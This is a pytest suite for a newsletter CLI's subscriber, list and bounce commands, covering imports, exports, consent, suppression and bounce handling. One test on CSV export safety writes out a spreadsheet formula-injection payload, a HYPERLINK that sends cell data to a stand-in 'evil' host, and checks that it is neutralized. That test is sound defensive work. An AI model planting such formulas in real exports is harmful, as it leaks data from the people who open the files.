"""The subscriber, lists and bounces commands end to end, through typer's CliRunner, on a real
SQLite file."""

from __future__ import annotations

import csv
import io
import json
import shutil
from datetime import UTC

import pytest

from tests.support.cli import run, shown
from tests.support.newsletters import two_list_config
from tests.support.values import DATA


def listed(*args: str) -> list[dict]:
    return [
        json.loads(line)
        for line in run("subscribers", "list", "--format", "json", *args).stdout.splitlines()
    ]


def test_every_format_of_list(subscribed):
    rows = listed()
    assert len(rows) == 6 and all({"email", "status"} <= set(r) for r in rows)
    table = run("subscribers", "list").stdout
    assert "┃ email" in table and "6 shown" in table
    parsed = list(csv.DictReader(io.StringIO(run("subscribers", "list", "-f", "csv").stdout)))
    assert {r["email"] for r in parsed} == {r["email"] for r in rows}
    active = listed("--status", "active")
    assert len(active) == 5


def test_unsubscribe_resubscribe_prefs_and_show(subscribed):
    run("subscribers", "unsubscribe", "grace.hopper@example.com", "--list", "daily")
    shown = json.loads(run("subscribers", "show", "grace.hopper@example.com", "--json").stdout)
    assert shown["status"] == "unsubscribed"
    assert shown["memberships"] == {"daily": {"state": "unsubscribed", "paused": False}}
    run("subscribers", "resubscribe", "grace.hopper@example.com")
    run("subscribers", "prefs", "grace.hopper@example.com", "--sections", "launch-pad", "--pause")
    shown = json.loads(run("subscribers", "show", "grace.hopper@example.com", "-f", "json").stdout)
    assert shown["status"] == "active" and shown["subscriptions"] == {"daily": ["launch-pad"]}
    assert shown["memberships"]["daily"] == {"state": "active", "paused": True}
    counts = json.loads(run("lists", "list", "-f", "json").stdout)
    assert (counts["active"], counts["paused"]) == (4, 1)
    run("subscribers", "prefs", "grace.hopper@example.com", "--sections", "all", "--resume")
    text = run("subscribers", "show", "grace.hopper@example.com").stdout
    assert "daily (active): all sections" in text and "consent: import:example.csv" in text
    missing = run("subscribers", "prefs", "nobody@example.com", "--pause", code=6)
    assert "no subscriber nobody@example.com" in missing.stderr


def test_erase_keeps_only_a_hash_and_import_respects_it(subscribed):
    run("subscribers", "remove", "ada.lovelace@example.com", "--erase")
    assert "ada.lovelace@example.com" not in run("subscribers", "list", "-f", "csv").stdout
    (subscribed / "back.csv").write_text(
        "email,name\nnew@example.com,N\nAda.Lovelace@example.com,A\n"
    )
    result = run("subscribers", "import", "back.csv", code=5)
    assert (
        "back.csv:3: Ada.Lovelace@example.com is on the suppression list (erased)" in result.stderr
    )
    assert "1 added" in result.stdout
    run("subscribers", "import", "back.csv", "--force")
    assert any(r["email"] == "Ada.Lovelace@example.com" for r in listed())


def test_export_import_round_trip_in_both_formats(subscribed, tmp_path, monkeypatch, make_db_url):
    run("subscribers", "unsubscribe", "yuri@example.org")
    run("subscribers", "prefs", "valentina@example.net", "--pause")
    before = {r["email"]: r for r in listed()}
    for fmt, name in (("csv", "all.csv"), ("json", "all.jsonl")):
        run("subscribers", "export", "-f", fmt, "--out", name)
        monkeypatch.setenv("DIGEST_DATABASE_URL", make_db_url(name + ".db"))
        result = run("subscribers", "import", name, "--json")
        assert json.loads(result.stdout)["added"] == 6
        assert {r["email"]: r for r in listed()} == before
        again = json.loads(run("subscribers", "import", name, "--json").stdout)
        assert (again["added"], again["updated"], again["unchanged"]) == (0, 0, 6)


def test_import_reports_every_bad_row_and_commits_the_rest(subscribed):
    (subscribed / "mixed.csv").write_text(
        "email,name,lists,sections,status\n"
        "one@example.com,One,daily,,\n"
        "not-an-email,Bad,daily,,\n"
        "two@example.com,Two,weekly,,\n"
        "three@example.com,Three,daily,nope,\n"
        "four@example.com,Four,daily,,sleeping\n"
        "five@example.com,Five,daily,launch-pad,active\n"
    )
    dry = run("subscribers", "import", "mixed.csv", "--dry-run", "--json", code=5)
    assert json.loads(dry.stdout)["added"] == 2 and len(listed()) == 6
    result = run("subscribers", "import", "mixed.csv", code=5)
    lines = [line.split(": ", 1)[0] for line in result.stderr.splitlines()]
    assert lines == ["mixed.csv:3", "mixed.csv:4", "mixed.csv:5", "mixed.csv:6"]
    assert "unknown list 'weekly'" in result.stderr and "unknown status 'sleeping'" in result.stderr
    assert {r["email"] for r in listed()} >= {"one@example.com", "five@example.com"}
    assert len(listed()) == 8


def test_lists_list_and_show(subscribed):
    rows = [json.loads(line) for line in run("lists", "list", "-f", "json").stdout.splitlines()]
    assert rows == [
        {
            "name": "daily",
            "title": "Orbital Dispatch Daily",
            "sender": "Orbital Dispatch <newsletter@orbital-dispatch.example>",
            "active": 5,
            "paused": 0,
            "pending": 0,
            "unsubscribed": 1,
            "bounced": 0,
            "complained": 0,
        }
    ]
    shown = json.loads(run("lists", "show", "daily", "-f", "json").stdout)
    assert shown["sections"][0] == "internet-space" and shown["timezone"] == "America/New_York"
    assert (shown["schedule"], shown["send_at"], shown["window_hours"]) == ("daily", "00:00", 48)
    assert "Orbital Dispatch Daily" in run("lists", "show", "daily").stdout
    assert "no list named 'weekly'" in run("lists", "show", "weekly", code=2).stderr


def test_bounces_process_command(subscribed, tmp_path):
    run("subscribers", "add", "r@p351355.pool.example.ne.jp")
    box = tmp_path / "returned"
    box.mkdir()
    for name in ("sisimai/lhost-postfix-01.eml", "sisimai/rfc3834-01.eml"):
        shutil.copy(DATA / "bounces" / name, box / name.split("/")[1])
    (box / "zz-not-mail.eml").write_bytes(b"\x00\x01\x02")
    dry = json.loads(run("bounces", "process", str(box), "--json", "--dry-run").stdout)
    assert dry["dry_run"] and dry["messages"] == 3 and dry["unreadable"] == 1
    summary = json.loads(run("bounces", "process", str(box), "--json").stdout)
    assert summary["reports"] == {"user-unknown": 1, "auto-reply": 1}
    bounce, auto, broken = summary["details"]
    assert bounce["recipients"] == [
        {
            "address": "r@p351355.pool.example.ne.jp",
            "original_recipient": "kijitora@example.org",
            "reason": "user-unknown",
            "outcome": "hard",
            "status": "5.1.1",
            "diagnostic": bounce["recipients"][0]["diagnostic"],
            "action": "unmatched",  # subscribed, but never mailed: nothing ties it to us
            "why": "no delivery to it in the last 30 days",
        }
    ]
    assert auto["recipients"][0]["action"] == "none"
    assert broken["source"].endswith("zz-not-mail.eml") and "not a mail message" in broken["error"]
    shown = json.loads(run("subscribers", "show", "r@p351355.pool.example.ne.jp", "--json").stdout)
    assert shown["status"] == "active" and shown["suppressed"] is None
    text = run("bounces", "process", str(box)).stdout
    assert "r@p351355.pool.example.ne.jp user-unknown -> unmatched" in text
    assert "unmatched 1" in text and "unreadable 1" in text
    missing = run("bounces", "process", str(tmp_path / "nope"), code=6)
    assert "no such Maildir" in missing.stderr


# -- consent: nobody who said no is mailed ----------------------------------------------------


def mailed(folder) -> set[str]:
    """Who the outbox (a Maildir) got a digest for."""
    import mailbox
    from email import message_from_bytes, policy

    box = mailbox.Maildir(folder / "outbox", create=False)
    messages = [message_from_bytes(box.get_bytes(k), policy=policy.default) for k in box.iterkeys()]
    return {
        m["To"].addresses[0].addr_spec
        for m in messages
        if not str(m["Subject"]).startswith("Confirm")
    }


STAYING = {
    "ada.lovelace@example.com",
    "yuri@example.org",
    "valentina@example.net",
    "margaret.hamilton@example.com",
}


def test_preferences_never_subscribe_again_someone_who_left_and_send_skips_them(subscribed):
    run("subscribers", "unsubscribe", "grace.hopper@example.com")
    run("subscribers", "prefs", "grace.hopper@example.com", "--list", "daily")
    run("subscribers", "prefs", "grace.hopper@example.com", "--sections", "launch-pad")
    run("subscribers", "prefs", "grace.hopper@example.com", "--pause")
    run("subscribers", "prefs", "grace.hopper@example.com", "--resume")
    # Imported with status=unsubscribed, then given sections.
    run("subscribers", "prefs", "former.reader@example.com", "--sections", "launch-pad")
    assert shown("grace.hopper@example.com")["status"] == "unsubscribed"
    assert shown("former.reader@example.com")["status"] == "unsubscribed"
    run("fetch")
    run("send")
    assert mailed(subscribed) == STAYING


def _sign_up(email: str, list_name: str = "daily") -> None:
    """A sign-up on the web form, through the pipeline functions the form and the server's
    mailer call."""
    import asyncio
    from datetime import datetime

    from digest import pipeline

    ctx = pipeline.Context.open()
    try:
        now = datetime.now(UTC)
        pipeline.request_subscription(ctx, email, "", list_name, None, now, "192.0.2.1")
        asyncio.run(pipeline.send_confirmations(ctx, now))
    finally:
        ctx.close()


def test_an_operator_add_or_import_activates_a_pending_sign_up(subscribed):
    _sign_up("late@example.com")
    _sign_up("filed@example.com")
    assert shown("late@example.com")["status"] == "pending"
    added = run("subscribers", "add", "late@example.com")
    assert "activated late@example.com" in added.stdout
    (subscribed / "confirmed.csv").write_text("email,name\nfiled@example.com,Filed\n")
    result = json.loads(run("subscribers", "import", "confirmed.csv", "--json").stdout)
    assert result["changed"] == [
        {"email": "filed@example.com", "line": 2, "changes": ["daily: pending -> active"]}
    ]
    for email in ("late@example.com", "filed@example.com"):
        assert (shown(email)["status"], shown(email)["lists"]) == ("active", ["daily"])
    run("fetch")
    run("send")
    assert mailed(subscribed) == STAYING | {
        "grace.hopper@example.com",
        "late@example.com",
        "filed@example.com",
    }


def test_importing_bounced_or_complained_people_suppresses_them(subscribed):
    (subscribed / "old.csv").write_text(
        "email,status\nb@example.com,bounced\nc@example.com,complained\n"
    )
    run("subscribers", "import", "old.csv")
    assert shown("b@example.com")["suppressed"] == "hard-bounce"
    assert shown("c@example.com")["suppressed"] == "complaint"
    refused = run("subscribers", "resubscribe", "b@example.com", code=6)
    assert "suppression list" in refused.stderr
    run("subscribers", "resubscribe", "b@example.com", "--force")
    assert shown("b@example.com")["status"] == "active"


def test_import_leaves_stored_subscribers_alone_unless_update_and_names_each_change(subscribed):
    before = shown("grace.hopper@example.com")
    (subscribed / "new.csv").write_text(
        "email,name,sections\n"
        "grace.hopper@example.com,Rear Admiral Hopper,launch-pad\n"
        "ada.lovelace@example.com,Ada Lovelace,\n"
        "former.reader@example.com,Former Reader,\n"
        "new.one@example.com,New One,\n"
    )
    result = json.loads(run("subscribers", "import", "new.csv", "--json").stdout)
    assert (result["added"], result["updated"], result["unchanged"]) == (1, 0, 3)
    assert result["changed"] == []
    assert shown("grace.hopper@example.com") == before
    text = run("subscribers", "import", "new.csv", "--update").stdout
    assert (
        "changed grace.hopper@example.com (line 2): name: 'Grace Hopper' -> 'Rear Admiral "
        "Hopper'; daily sections: military-space;missile-defense -> launch-pad"
    ) in text
    assert "0 added, 1 updated, 3 unchanged" in text
    after = shown("grace.hopper@example.com")
    assert (after["name"], after["subscriptions"]) == (
        "Rear Admiral Hopper",
        {"daily": ["launch-pad"]},
    )
    assert shown("former.reader@example.com")["status"] == "unsubscribed"


def test_formula_cells_are_neutralized_on_export_and_restored_on_import(
    subscribed, monkeypatch, make_db_url
):
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    run("subscribers", "add", "f@example.com", "--name", formula, "--consent", "+paper form")
    run("subscribers", "add", "--name", "@SUM(1+1)", "--", "-minus@example.com")
    exported = run("subscribers", "export").stdout
    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'" + formula in cells and "'+paper form" in cells and "'-minus@example.com" in cells
    assert run("subscribers", "list", "-f", "csv").stdout == exported
    (subscribed / "all.csv").write_text(exported)
    monkeypatch.setenv("DIGEST_DATABASE_URL", make_db_url("again.db"))
    run("subscribers", "import", "all.csv")
    assert shown("f@example.com")["name"] == formula
    assert shown("f@example.com")["consent"] == "+paper form"
    assert shown("-minus@example.com")["name"] == "@SUM(1+1)"
    assert run("subscribers", "export").stdout == exported


def test_an_oversized_field_is_a_bad_line_and_the_good_rows_are_imported(subscribed):
    (subscribed / "big.csv").write_text(
        "email,name\nok1@example.com,A\nbig@example.com," + "x" * 140_000 + "\nok2@example.com,B\n"
    )
    result = run("subscribers", "import", "big.csv", code=5)
    assert "big.csv:3: cannot be read: field larger than field limit (131072)" in result.stderr
    assert "2 added" in result.stdout


def test_mailchimp_and_listmonk_exports_import_with_any_case_of_section(subscribed):
    (subscribed / "mailchimp.csv").write_text(
        "Email Address,First Name,Last Name,CONFIRM_TIME,CONFIRM_IP\n"
        "mc@example.com,Mae,Carol,2024-03-01 10:00:00,198.51.100.4\n"
    )
    (subscribed / "listmonk.csv").write_text(
        "uuid,email,name,attributes,status,created_at,updated_at\n"
        'a1,lm@example.com,List Monk,"{}",enabled,2024-01-01,2024-01-01\n'
        'a2,gone@example.com,Gone,"{}",blocklisted,2024-01-01,2024-01-01\n'
    )
    (subscribed / "sections.csv").write_text(
        "email,sections\ncase@example.com,Launch-Pad;DRONE-SPACE\n"
    )
    (subscribed / "cleaned.csv").write_text("Email Address,status\nm@example.com,cleaned\n")
    for name in ("mailchimp.csv", "listmonk.csv", "sections.csv", "cleaned.csv"):
        run("subscribers", "import", name)
    assert shown("m@example.com")["suppressed"] == "hard-bounce"  # Mailchimp's "cleaned"
    mc = shown("mc@example.com")
    assert (mc["name"], mc["consent_ip"], mc["consent_at"][:19]) == (
        "Mae Carol",
        "198.51.100.4",
        "2024-03-01T10:00:00",
    )
    assert (shown("lm@example.com")["name"], shown("lm@example.com")["status"]) == (
        "List Monk",
        "active",
    )
    assert shown("gone@example.com")["status"] == "unsubscribed"
    assert shown("case@example.com")["subscriptions"] == {"daily": ["drone-space", "launch-pad"]}


@pytest.fixture
def two_lists(monkeypatch, tmp_path, db_url):
    """A newsletter with a daily and a weekly list."""
    monkeypatch.setenv("DIGEST_CONFIG", str(two_list_config(tmp_path)))
    monkeypatch.setenv("DIGEST_DATABASE_URL", db_url)
    monkeypatch.setenv("DIGEST_OUTBOX", str(tmp_path / "outbox"))
    monkeypatch.setenv("DIGEST_SECRET_KEY", "s" * 48)
    run("init")
    return tmp_path


def test_export_import_export_is_byte_identical_for_every_state(
    two_lists, monkeypatch, make_db_url
):
    add = ("subscribers", "add")
    run(
        *add,
        "active@example.com",
        "--list",
        "daily",
        "--list",
        "weekly",
        "--sections",
        "launch-pad",
        "--name",
        "Active",
    )
    run(*add, "paused@example.com", "--list", "daily", "--consent", "paper form 2026-03")
    run("subscribers", "prefs", "paused@example.com", "--list", "daily", "--pause")
    run(*add, "left-one@example.com", "--list", "daily", "--list", "weekly")
    run("subscribers", "unsubscribe", "left-one@example.com", "--list", "weekly")
    run(*add, "left-all@example.com", "--list", "daily", "--list", "weekly")
    run("subscribers", "unsubscribe", "left-all@example.com")
    (two_lists / "returned.csv").write_text(
        "email,lists,status\n"
        "bounced@example.com,daily,bounced\n"
        "complained@example.com,weekly,complained\n"
    )
    run("subscribers", "import", "returned.csv")
    _sign_up("pending@example.com", "weekly")  # a web sign-up, never confirmed
    _sign_up("active@example.com", "daily")  # already active there: nothing changes
    run(*add, "second@example.com", "--list", "daily")
    _sign_up("second@example.com", "weekly")  # active on daily, pending on weekly
    pending = shown("pending@example.com")
    assert (pending["status"], pending["lists"], pending["consent"]) == (
        "pending",
        ["weekly:pending"],
        None,
    )
    assert shown("second@example.com")["lists"] == ["daily", "weekly:pending"]
    first = {fmt: run("subscribers", "export", "-f", fmt).stdout for fmt in ("csv", "json")}
    assert first["csv"].count("\n") == 9
    for fmt, name in (("csv", "all.csv"), ("json", "all.jsonl")):
        (two_lists / name).write_text(first[fmt])
        monkeypatch.setenv("DIGEST_DATABASE_URL", make_db_url(name + ".db"))
        run("init")
        result = json.loads(run("subscribers", "import", name, "--json").stdout)
        assert (result["added"], result["rejected"]) == (8, [])
        assert run("subscribers", "export", "-f", fmt).stdout == first[fmt]
        again = shown("pending@example.com")
        assert (again["status"], again["consent"], again["consent_at"]) == ("pending", None, None)
        assert shown("bounced@example.com")["suppressed"] == "hard-bounce"


def test_an_update_import_of_a_sign_up_pending_on_another_list_activates_it_once(two_lists):
    _sign_up("asked@example.com", "weekly")
    (two_lists / "filed.csv").write_text(
        "email,lists,sections\nasked@example.com,daily,launch-pad\n"
    )
    result = json.loads(run("subscribers", "import", "filed.csv", "--update", "--json").stdout)
    assert result["changed"] == [
        {
            "email": "asked@example.com",
            "line": 2,
            "changes": ["daily: pending -> active", "daily sections: all -> launch-pad"],
        }
    ]
    assert shown("asked@example.com")["memberships"]["daily"] == {
        "state": "active",
        "paused": False,
    }
